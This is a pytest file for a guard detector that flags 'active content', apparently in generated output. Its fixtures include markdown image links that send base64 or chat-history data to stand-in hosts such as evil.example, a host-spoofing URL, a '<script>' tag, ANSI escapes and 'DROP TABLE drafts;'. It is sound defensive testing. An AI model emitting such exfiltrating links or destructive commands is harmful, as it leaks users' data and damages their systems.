"""Content that acts: each form is told, its harmless likeness is not, and what is allowed is let go."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from alcaide.instruments.guard.detectors.active_content import ACTIVE_CONTENT, ActiveContent
from alcaide.instruments.guard.detectors.active_content.detector import FORMS, carries
from alcaide.instruments.guard.engine import PatternEngine
from alcaide.instruments.guard.layer import as_written
from alcaide.instruments.guard.model import Context, Finding, Passage
from alcaide.kernel.errors import InvalidInput

CORPUS = Path(__file__).parents[3] / "corpus" / "guard" / "active_content.jsonl"
ROWS = [json.loads(line) for line in CORPUS.read_text(encoding="utf-8").splitlines()]
ENGINE = PatternEngine({"active-content": ACTIVE_CONTENT.patterns})


def seen(
    text: str, detector: ActiveContent = ACTIVE_CONTENT, context: Context | None = None
) -> list[Finding]:
    layer = as_written(Passage(text))
    hits = ENGINE.hits(layer).get("active-content", ())
    found = detector.examine(layer, hits, context or Context(direction="out")).findings
    return [finding for finding in found if finding.score >= 0.5]


@pytest.mark.parametrize("row", [row for row in ROWS if row["rule"]], ids=lambda row: row["id"])
def test_a_form_is_told(row):
    assert f"active-content/{row['rule']}" in {finding.rule for finding in seen(row["text"])}


@pytest.mark.parametrize("row", [row for row in ROWS if not row["rule"]], ids=lambda row: row["id"])
def test_its_harmless_likeness_is_not(row):
    assert seen(row["text"]) == []


def test_every_form_has_an_example_in_the_corpus():
    assert {form.rule for form in FORMS} <= {row["rule"] for row in ROWS}


def test_the_span_is_the_address_alone():
    text = "see ![x](https://e.example/p?d=QWxhZGRpbjpvcGVuIHNlc2FtZQ) there"
    (finding,) = seen(text)
    assert text[finding.span.start : finding.span.end] == "https://e.example/p?d=QWxhZGRpbjpvcGVuIHNlc2FtZQ"


def test_an_allowed_host_is_let_go_and_one_that_only_ends_like_it_is_not():
    detector = ACTIVE_CONTENT.configured({"allowed_hosts": ["img.example"]})
    carried = "?d=QWxhZGRpbjpvcGVuIHNlc2FtZQ"
    assert seen(f"![x](https://img.example/p{carried})", detector) == []
    assert seen(f"![x](https://cdn.img.example/p{carried})", detector) == []
    assert seen(f"![x](https://evilimg.example/p{carried})", detector)
    assert seen(f"![x](https://img.example@evil.example/p{carried})", detector)


def test_a_command_that_was_asked_for_is_less_of_a_surprise():
    command = "DROP TABLE drafts;"
    asked = Context(direction="out", question="Which SQL command deletes the table drafts?")
    assert seen(command)
    assert seen(command, context=asked) == []


def test_a_rule_that_is_ignored_finds_nothing_and_the_others_still_do():
    detector = ACTIVE_CONTENT.configured({"ignore": ["colour-sequence"]})
    text = "\x1b[31mred\x1b[0m <script>"
    assert {finding.rule for finding in seen(text, detector)} == {"active-content/script-element"}


@pytest.mark.parametrize(
    ("options", "said"),
    [
        ({"hosts": []}, "`hosts`"),
        ({"allowed_hosts": "x"}, "`allowed_hosts`"),
        ({"ignore": ["nothing"]}, "`nothing`"),
    ],
)
def test_a_wrong_option_is_named(options, said):
    with pytest.raises(InvalidInput, match=said):
        ACTIVE_CONTENT.configured(options)


@pytest.mark.parametrize(
    ("address", "carried"),
    [
        ("https://e.example/a?page=2&sort=name", False),
        ("https://e.example/a?id=3f2504e0-4f89-11d3-9a0c-0305e82c3301", False),
        ("https://e.example/releases/2026/notes.html", False),
        ("https://e.example/a?text=my%20address%20is%20here", True),
        ("https://e.example/a?x={{history}}", True),
        ("https://e.example/a?d=QWxhZGRpbjpvcGVuIHNlc2FtZQ", True),
    ],
)
def test_what_an_address_carries(address, carried):
    assert (carries(address) is not None) is carried


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet=st.sampled_from("![]()<>/:?=&{}$\x1b;|'\" \nahtps.imgrc-"), max_size=300))
def test_any_text_gives_findings_within_it(text):
    for finding in seen(text):
        assert 0 <= finding.span.start < finding.span.end <= len(text)
